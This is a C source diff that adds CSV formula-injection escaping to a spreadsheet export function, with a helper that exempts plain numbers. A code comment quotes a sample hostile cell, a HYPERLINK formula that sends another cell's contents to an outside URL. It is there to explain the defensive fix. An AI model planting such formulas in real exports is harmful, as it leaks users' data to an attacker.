@@ -57,15 +57,39 @@ int isc_spend_total(const struct isc_spend_row *rows, size_t n, int64_t *total, 
 	return 0;
 }
 
+/* -1.50, +3, 42, 0.5: a number a spreadsheet reads as one, never as a formula. */
+static int plain_number(const char *p)
+{
+	int digits = 0;
+
+	if (*p == '-' || *p == '+')
+		p++;
+	for (; *p >= '0' && *p <= '9'; p++)
+		digits++;
+	if (*p == '.')
+		for (p++; *p >= '0' && *p <= '9'; p++)
+			digits++;
+	return digits > 0 && !*p;
+}
+
 int isc_csv_field(struct isc_buf *out, const char *field)
 {
 	size_t len = strlen(field);
+	/*
+	 * A cell starting with = + - @ (or a tab or CR, which some spreadsheets skip
+	 * before looking) is a formula to Excel, LibreOffice and Google Sheets: an
+	 * experiment named =HYPERLINK("http://...?"&B3,"open") would run in the
+	 * finance export of whoever opens it (issue 42). OWASP's rule: such a cell
+	 * gets a leading ' (shown as text, never evaluated) and is quoted. A plain
+	 * number (-1.50) is no formula and stays as it is.
+	 */
+	int formula = len && strchr("=+-@\t\r", field[0]) && !plain_number(field);
 	int rc;
 
-	if (strpbrk(field, ",\"\r\n") == NULL &&
+	if (!formula && strpbrk(field, ",\"\r\n") == NULL &&
 	    !(len && (field[0] == ' ' || field[len - 1] == ' ')))
 		return isc_buf_puts(out, field);
-	if ((rc = isc_buf_putc(out, '"')))
+	if ((rc = isc_buf_putc(out, '"')) || (formula && (rc = isc_buf_putc(out, '\''))))
 		return rc;
 	for (const char *p = field; *p; p++)
 		if ((rc = isc_buf_putc(out, *p)) || (*p == '"' && (rc = isc_buf_putc(out, '"'))))
